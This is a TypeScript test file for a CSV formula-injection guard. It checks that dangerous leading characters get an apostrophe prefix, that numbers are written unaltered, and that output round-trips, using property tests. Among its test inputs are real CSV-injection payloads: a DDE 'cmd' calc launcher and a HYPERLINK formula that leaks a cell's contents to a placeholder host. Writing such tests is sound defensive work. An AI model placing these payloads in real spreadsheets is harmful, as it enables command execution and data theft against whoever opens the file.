import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvField, csvNumber, guardCsvText, writeCsv, type CsvOptions } from './csv.ts';

/** RFC 4180 read back: the cells of each row, quotes removed. */
function readCsv(text: string, delimiter: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === delimiter) {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += char;
  }
  return rows;
}

// OWASP: = + - @ tab CR, and the full-width = + - @.
const DANGEROUS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];

describe('the CSV formula guard', () => {
  it.each([
    ["-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"],
    ['-2+3+HYPERLINK("http://x.example/?leak="&A1)', '\'-2+3+HYPERLINK("http://x.example/?leak="&A1)'],
    ['=1+1', "'=1+1"],
    ['+1+1', "'+1+1"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['＝1+1', "'＝1+1"],
    ['＋1', "'＋1"],
    ['－1+1', "'－1+1"],
    ['＠SUM(1)', "'＠SUM(1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['-5', "'-5"],
  ])('prefixes the text %j', (text, guarded) => {
    expect(guardCsvText(text)).toBe(guarded);
  });

  it.each(['Søren Ærø', '1-2', 'a=b', "'quoted", ' =1+1'])('leaves the text %j as it is', (text) => {
    expect(guardCsvText(text)).toBe(text);
  });

  it('quotes a guarded cell that holds the delimiter, a quote or a line break', () => {
    expect(csvField('=HYPERLINK("x")', ';')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(csvField('\r=1+1', ',')).toBe(`"'\r=1+1"`);
    expect(csvField('-1;2', ';')).toBe(`"'-1;2"`);
  });

  it('writes numbers as numbers: a negative number is not prefixed', () => {
    expect(csvField(-1234.5, ',')).toBe('-1234.5');
    expect(csvField(csvNumber('-1.234,50'), ';')).toBe('-1.234,50');
    expect(csvField(csvNumber('-7 %'), ';')).toBe('-7 %');
    expect(csvField(csvNumber('-1.234,50'), ',')).toBe('"-1.234,50"');
  });

  it('guards what is handed in as a number but is not one', () => {
    expect(csvField(csvNumber('-1+cmd|A0'), ',')).toBe("'-1+cmd|A0");
    expect(csvField(-Infinity, ',')).toBe("'-Infinity");
  });

  it('writes rows with a BOM, the delimiter and CRLF, or as asked', () => {
    const rows = [
      ['Navn', 'Beløb'],
      ['=A1', csvNumber('-1,50')],
      [null, 3],
    ];
    expect(writeCsv(rows, { delimiter: ';', bom: true })).toBe("\uFEFFNavn;Beløb\r\n'=A1;-1,50\r\n;3\r\n");
    expect(writeCsv(rows, { delimiter: ',', newline: '\n' })).toBe('Navn,Beløb\n\'=A1,"-1,50"\n,3\n');
  });

  it('never writes a text cell that a spreadsheet would start as a formula (property)', () => {
    const dangerousStart = fc
      .constantFrom(...DANGEROUS)
      .chain((first) => fc.string().map((rest) => first + rest));
    // Any code point, lone surrogates too (built by hand: fc's 'binary' unit takes seconds to set up).
    const anyCharacter = fc.integer({ min: 0, max: 0x10ffff }).map((cp) => String.fromCodePoint(cp));
    const text = fc.oneof(fc.string(), fc.string({ unit: anyCharacter }), dangerousStart);
    const delimiter = fc.constantFrom<CsvOptions['delimiter']>(',', ';');
    fc.assert(
      fc.property(
        fc.array(fc.array(text, { minLength: 1, maxLength: 5 }), { maxLength: 5 }),
        delimiter,
        (rows, d) => {
          const read = readCsv(writeCsv(rows, { delimiter: d }), d);
          // Each cell is the text itself, or the text behind one apostrophe, and starts with nothing
          // dangerous (plain checks: expect() in a property run is slow on a busy machine).
          return (
            read.length === rows.length &&
            read.every(
              (cells, r) =>
                cells.length === rows[r]!.length &&
                cells.every(
                  (cell, c) =>
                    !DANGEROUS.includes(cell[0] ?? '') &&
                    (cell === rows[r]![c] || cell === `'${rows[r]![c]}`),
                ),
            )
          );
        },
      ),
    );
  });

  it('writes every number so that it reads back as the same number (property)', () => {
    const number = fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }));
    fc.assert(
      fc.property(fc.array(number, { minLength: 1, maxLength: 6 }), (numbers) => {
        const [cells] = readCsv(writeCsv([numbers], { delimiter: ';' }), ';');
        return cells!.every((cell, i) => !cell.startsWith("'") && Number(cell) === numbers[i]);
      }),
    );
  });
});
